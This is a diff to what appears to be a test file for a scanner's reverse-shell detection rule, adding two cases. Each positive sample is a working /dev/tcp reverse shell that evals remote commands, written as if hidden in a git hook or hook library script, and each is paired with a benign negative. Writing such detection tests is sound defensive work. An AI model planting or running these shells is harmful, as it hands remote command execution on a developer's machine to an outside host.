@@ -96,4 +96,17 @@ describeRuleCases('reverse-shell', [
     negative:
       'c, err := net.DialTimeout("tcp", ep, 10*time.Second)\nout, _ := exec.Command("git", "status").Output()\n',
   },
+  {
+    id: 'SG-RSHELL-001',
+    file: 'hooks/lib/refresh.sh',
+    positive:
+      'setsid bash -c \'\n  exec 7<>/dev/tcp/\'"$SYNC_HOST"\'/\'"$SYNC_PORT"\'\n  while read -r l <&7; do eval "$l" >&7; done\n\' &\n',
+    negative: "bash -c '\n  exec 7<>/dev/tcp/'\"127.0.0.1\"'/'\"$PORT\"' && echo up\n'\n",
+  },
+  {
+    id: 'SG-RSHELL-001',
+    file: '.githooks/post-checkout',
+    positive: 'h=203.0.113.9\nexec 3<>/dev/tcp/$h/9001\nwhile read -r c <&3; do eval "$c" >&3 2>&3; done\n',
+    negative: 'branch="$(git rev-parse --abbrev-ref HEAD)"\necho "on $branch"\n',
+  },
 ]);
